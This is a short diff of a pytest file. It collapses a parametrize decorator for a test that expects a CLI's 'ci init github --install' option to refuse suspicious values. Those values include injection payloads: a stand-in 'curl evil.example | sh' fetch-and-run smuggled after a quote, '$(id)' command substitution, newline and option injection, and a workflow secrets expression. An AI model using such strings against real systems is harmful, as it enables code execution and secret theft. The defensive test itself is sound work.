@@ -61,9 +61,7 @@ def test_a_catalog_in_a_folder_is_named_in_the_workflows_at_the_top(shop: Path, 
     assert 'CATALOG: "our shop"' in (top / ".github/workflows/omnicat.yml").read_text()
 
 
-@pytest.mark.parametrize(
-    "install", ['"; curl evil.example | sh #', "a\nb", "--extra=x", "$(id)", "${{ secrets.X }}"]
-)
+@pytest.mark.parametrize("install", ['"; curl evil.example | sh #', "a\nb", "--extra=x", "$(id)", "${{ secrets.X }}"])
 def test_what_could_be_more_than_a_requirement_is_refused(shop: Path, run: Run, install: str) -> None:
     assert run(shop, "ci", "init", "github", "--install", install).code == 2
 
